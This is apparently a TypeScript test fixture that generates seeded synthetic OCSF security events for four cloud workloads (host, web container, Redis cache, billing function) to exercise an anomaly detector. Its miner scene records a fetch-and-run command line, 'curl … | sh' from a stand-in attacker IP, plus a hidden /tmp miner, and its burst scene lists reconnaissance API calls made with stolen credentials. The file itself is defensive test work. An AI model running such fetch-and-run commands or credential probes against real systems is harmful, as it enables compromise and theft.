import { seededRandom } from '../../models/random.js'
import { CLASS, type OcsfEvent, type Workload } from '../../ocsf/event.js'
import { eventUid } from '../../ocsf/uid.js'
import { containerWorkload, functionWorkload, vmWorkload } from '../../ocsf/workload.js'

// Days of four workloads for the tests of the anomaly detector: day and night, cron jobs, deployments, and noise.

export const MINUTE = 60_000
export const DAY = 1_440 * MINUTE
/** A Monday, 00:00 UTC. */
export const MONDAY = Date.UTC(2026, 0, 5)

const host = vmWorkload('i-0aa11bb22', 'app-host-1', { role: 'app-host' })
export const web = containerWorkload('aaaabbbbcccc', 'web', { image: 'registry.example/web:4.2' })
const cache = containerWorkload('ddddeeeeffff', 'cache', { image: 'redis:7.4' })
export const biller = functionWorkload('aws', '123456789012', 'eu-central-1', 'biller', { version: '3' })

/** A seeded source of events. */
export function createScene(seed: number) {
  const random = seededRandom(seed)
  let serial = 0

  function event(workload: Workload, class_uid: number, time: number, attributes: object): OcsfEvent {
    const base = { class_uid, category_uid: 1, activity_id: 1, type_uid: class_uid * 100 + 1, time, severity_id: 1 }
    const uid = eventUid(time, `${seed}/${serial++}`)
    return { ...base, metadata: { version: '1.8.0', product: {}, uid }, workload, ...attributes }
  }
  /** Knuth's method; the rates here are small. */
  function poisson(rate: number): number {
    const limit = Math.exp(-rate)
    let count = 0
    for (let product = random(); product > limit; product *= random()) count++
    return count
  }
  const around = (mean: number, spread: number) =>
    Math.max(0, mean + spread * (random() + random() + random() + random() - 2) * Math.sqrt(3))
  const some = () => Math.floor(random() * MINUTE)
  const pick = <T>(items: readonly T[]) => items[Math.floor(random() * items.length)] as T

  const launch = (workload: Workload, time: number, path: string, args: string, parent: string) =>
    event(workload, CLASS.process_activity, time, {
      process: {
        name: path.slice(path.lastIndexOf('/') + 1),
        file: { path },
        cmd_line: `${path} ${args}`,
        parent_process: { name: parent },
      },
    })
  const flow = (workload: Workload, time: number, inbound: boolean, ip: string, port: number, bytes: number) =>
    event(workload, CLASS.network_activity, time, {
      connection_info: { direction_id: inbound ? 1 : 2 },
      [inbound ? 'src_endpoint' : 'dst_endpoint']: { ip, port },
      traffic: { bytes_in: Math.round(bytes * around(1, 0.3)), bytes_out: Math.round(bytes * around(2, 0.5)) },
    })
  const measure = (workload: Workload, time: number, values: { [name: string]: number }) =>
    event(workload, CLASS.workload_metric, time, {
      metrics: Object.entries(values).map(([name, value]) => ({ name, value, unit: 'count' })),
    })
  const call = (time: number, service: string, operation: string, code?: string, ip = '10.1.0.9') =>
    event(biller, CLASS.api_activity, time, {
      activity_id: /^(?:Get|List|Describe)/.test(operation) ? 2 : 1,
      api: { operation, service: { name: `${service}.amazonaws.com` }, ...(code ? { response: { error: code } } : {}) },
      src_endpoint: { ip },
      ...(code ? { status_id: 2 } : { status_id: 1 }),
    })
  /** 0.25 at night, 1 in the afternoon. */
  const busy = (time: number) => 0.625 + 0.375 * Math.sin(((time % DAY) / DAY - 0.4) * 2 * Math.PI)

  function hostMinute(time: number, minute: number, load: number): OcsfEvent[] {
    const events = [
      measure(host, time + 5_000, {
        cpu_percent: around(9 + 20 * load, 3),
        memory_percent: around(48, 1),
        network_in_bytes_per_s: around(30_000 + 90_000 * load, 9_000),
        network_out_bytes_per_s: around(40_000 + 120_000 * load, 12_000),
        process_count: Math.round(around(140, 3)),
      }),
    ]
    if (minute % 5 === 0) events.push(launch(host, time + some(), '/usr/lib/sysstat/sa1', '1 1', 'cron'))
    if (minute % 60 === 17) {
      events.push(launch(host, time + 1_000, '/bin/sh', '-c run-parts /etc/cron.hourly', 'cron'))
      events.push(launch(host, time + 1_200, '/usr/bin/run-parts', '/etc/cron.hourly', 'sh'))
      events.push(launch(host, time + 2_000, '/usr/sbin/logrotate', '/etc/logrotate.conf', 'run-parts'))
    }
    if (random() < 0.05) events.push(flow(host, time + some(), false, '169.254.169.123', 123, 90))
    if (minute > 480 && minute < 1_080 && random() < 0.008) {
      events.push(event(host, CLASS.authentication, time, { status_id: random() < 0.1 ? 2 : 1 }))
      events.push(launch(host, time + 4_000, '/bin/bash', '-l', 'sshd'))
      for (let n = poisson(3); n > 0; n--)
        events.push(launch(host, time + some(), `/usr/bin/${pick(['ls', 'ps', 'top', 'cat'])}`, '', 'bash'))
    }
    return events
  }

  function webMinute(time: number, load: number): OcsfEvent[] {
    const events = [
      measure(web, time + 3_000, {
        cpu_percent: around(3 + 12 * load, 1.5),
        memory_percent: around(30, 1),
        network_in_bytes_per_s: around(4_000 + 60_000 * load, 5_000),
        network_out_bytes_per_s: around(6_000 + 90_000 * load, 7_000),
        process_count: 5,
      }),
    ]
    for (let n = poisson(8 * load); n > 0; n--)
      events.push(flow(web, time + some(), true, `10.1.1.${4 + Math.floor(random() * 3)}`, 40_000, 900))
    for (let n = poisson(3 * load); n > 0; n--) events.push(flow(web, time + some(), false, '10.1.2.5', 6379, 300))
    if (random() < 0.1)
      events.push(flow(web, time + some(), false, `198.51.100.${10 + Math.floor(random() * 4)}`, 443, 2_000))
    if (random() < 0.1)
      events.push(event(web, CLASS.dns_activity, time + some(), { query: { hostname: 'pay.example' } }))
    return events
  }

  function cacheMinute(time: number, minute: number, load: number): OcsfEvent[] {
    const events = [
      measure(cache, time + 3_000, {
        cpu_percent: around(1 + 3 * load, 0.5),
        memory_percent: around(12, 0.4),
        network_in_bytes_per_s: around(2_000 + 20_000 * load, 2_000),
        network_out_bytes_per_s: around(3_000 + 30_000 * load, 2_000),
        process_count: 4,
      }),
    ]
    if (minute % 2 === 0) events.push(launch(cache, time, '/usr/local/bin/redis-cli', 'ping', 'containerd-shim'))
    for (let n = poisson(3 * load); n > 0; n--) events.push(flow(cache, time + some(), true, '10.1.1.8', 41_000, 300))
    return events
  }

  function billerMinute(time: number, minute: number, load: number): OcsfEvent[] {
    if (minute % 5 !== 0 && random() > 0.3 * load) return []
    const events = [
      measure(biller, time + 30_000, {
        invocations: 1 + poisson(load),
        duration_ms: around(900, 200),
        errors: random() < 0.01 ? 1 : 0,
      }),
    ]
    for (let n = 1 + poisson(load); n > 0; n--) {
      events.push(call(time + some(), 'dynamodb', 'GetItem'))
      if (random() < 0.7) events.push(call(time + some(), 's3', 'PutObject'))
      if (random() < 0.02) events.push(call(time + some(), 'dynamodb', 'GetItem', 'ThrottlingException'))
    }
    return events
  }

  /** Start-up work of the web container: stop, start, migrations, warm-up. */
  function deployment(time: number): OcsfEvent[] {
    const events = [3, 2].map((activity_id, n) =>
      event(web, CLASS.container_lifecycle, time + n * 900, { activity_id }),
    )
    for (const [n, path] of ['/bin/sh', '/usr/local/bin/node', '/usr/local/bin/migrate'].entries()) {
      events.push(launch(web, time + 2_000 + n * 500, path, 'start', n === 0 ? 'containerd-shim' : 'sh'))
    }
    for (let n = 0; n < 4; n++) events.push(flow(web, time + 4_000 + n * 100, false, '10.1.2.6', 5432, 5_000))
    events.push(measure(web, time + 40_000, { cpu_percent: around(45, 6), process_count: 6 }))
    return events
  }

  /** One ordinary minute of all four workloads, in order of time. */
  function minute(time: number): OcsfEvent[] {
    const index = Math.round((time % DAY) / MINUTE)
    const load = busy(time)
    const events = [...hostMinute(time, index, load), ...webMinute(time, load), ...cacheMinute(time, index, load)]
    events.push(...billerMinute(time, index, load))
    if (index % 480 === 620 % 480) events.push(...deployment(time))
    return events.sort((a, b) => a.time - b.time)
  }

  /** A miner starts in the web container: a program in /tmp, the processor full, a steady connection to its pool. */
  function miner(time: number, first: boolean): OcsfEvent[] {
    const events = [
      measure(web, time + 20_000, { cpu_percent: around(95, 2) }),
      measure(web, time + 50_000, { cpu_percent: around(95, 2) }),
      flow(web, time + 15_000, false, '203.0.113.50', 3333, 400),
    ]
    if (first) {
      events.push(launch(web, time + 9_000, '/bin/sh', '-c curl -s http://203.0.113.50/x | sh', 'node'))
      events.push(launch(web, time + 11_000, '/tmp/.x/kworker', '-o pool', 'sh'))
    }
    return events.sort((a, b) => a.time - b.time)
  }

  /** Stolen credentials are tried: operations the function never called, half of them denied. */
  function burst(time: number): OcsfEvent[] {
    const tried: [string, string, string?][] = [
      ['sts', 'GetCallerIdentity'],
      ['s3', 'ListBuckets'],
      ['iam', 'ListUsers', 'AccessDenied'],
      ['iam', 'CreateAccessKey', 'AccessDenied'],
      ['ec2', 'DescribeInstances'],
      ['ec2', 'RunInstances', 'UnauthorizedOperation'],
      ['lambda', 'ListFunctions'],
      ['secretsmanager', 'ListSecrets', 'AccessDenied'],
    ]
    return tried.map(([service, operation, code], n) =>
      call(time + n * 5_000, service, operation, code, '203.0.113.66'),
    )
  }

  return { minute, miner, burst, launch, measure }
}
